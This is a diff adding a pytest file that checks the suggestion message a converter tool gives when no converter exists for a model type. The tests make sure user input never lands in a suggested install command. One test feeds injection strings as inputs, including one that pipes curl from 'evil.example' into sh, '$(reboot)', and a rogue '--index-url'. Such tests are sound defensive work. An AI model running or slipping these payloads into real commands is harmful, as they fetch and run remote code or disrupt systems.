@@ -1,0 +1,65 @@
+"""What is suggested where there is no converter: nothing that a download could have chosen."""
+
+import re
+import sys
+from pathlib import Path
+
+import pytest
+
+from forgather_convert.discovery.advice import PUBLISHED_FAMILIES, no_converter_message
+from forgather_convert.discovery.found import FoundConverter, Origin, Status
+
+ROOT = Path(__file__).parents[2]
+
+
+def installed(*model_types: str, status: Status = Status.OK) -> list[FoundConverter]:
+    return [
+        FoundConverter(name, Origin.INSTALLED, Path(name), f"dist-{name}", "1", status, "Broken.")
+        for name in model_types
+    ]
+
+
+@pytest.mark.parametrize(
+    "model_type",
+    ["gpt_neox", "x'; curl evil.example | sh; '", "$(reboot)", "llama==9", "--index-url=evil"],
+)
+def test_a_model_type_gets_into_no_command(model_type: str) -> None:
+    message = no_converter_message(model_type, installed("llama"))
+    assert message.startswith(f"No converter registered for model type '{model_type}'.")
+    rest = message.removeprefix(f"No converter registered for model type '{model_type}'")
+    assert model_type not in rest
+    assert "pip install" not in message
+    assert "--converter-path" in rest
+
+
+@pytest.mark.parametrize("model_type", PUBLISHED_FAMILIES)
+def test_families_that_are_published_are_suggested(model_type: str) -> None:
+    message = no_converter_message(model_type, [])
+    assert f"'pip install forgather-convert-{model_type}'" in message
+
+
+def test_the_published_families_are_the_extras_and_the_plugins() -> None:
+    text = (ROOT / "core/pyproject.toml").read_text(encoding="utf-8")
+    extras = re.findall(r'^(\w+) = \["forgather-convert-\1>=', text, re.MULTILINE)
+    plugins = sorted(path.parent.name for path in (ROOT / "plugins").glob("*/pyproject.toml"))
+    assert sorted(extras) == plugins == sorted(PUBLISHED_FAMILIES)
+
+
+def test_near_misses() -> None:
+    message = no_converter_message("mistal", installed("llama", "mistral"))
+    assert "Did you mean 'mistral'?" in message
+    assert "Did you mean" not in no_converter_message("gpt2", installed("llama", "mistral"))
+    switched_off = installed("mistral", status=Status.DISABLED)
+    assert "Did you mean" not in no_converter_message("mistal", switched_off)
+
+
+def test_one_that_cannot_be_used() -> None:
+    broken = installed("odd", status=Status.DISABLED)
+    assert "dist-odd 1 has one, but Broken." in no_converter_message("odd", broken)
+
+
+def test_a_model_type_without_end() -> None:
+    message = no_converter_message("x" * 1_000_000 + "\n\x1b", installed("llama"))
+    assert len(message) < 500
+    assert "\\n\\x1b" in no_converter_message("x\n\x1b", installed("llama"))
+    assert sys.getsizeof(message) < 2000
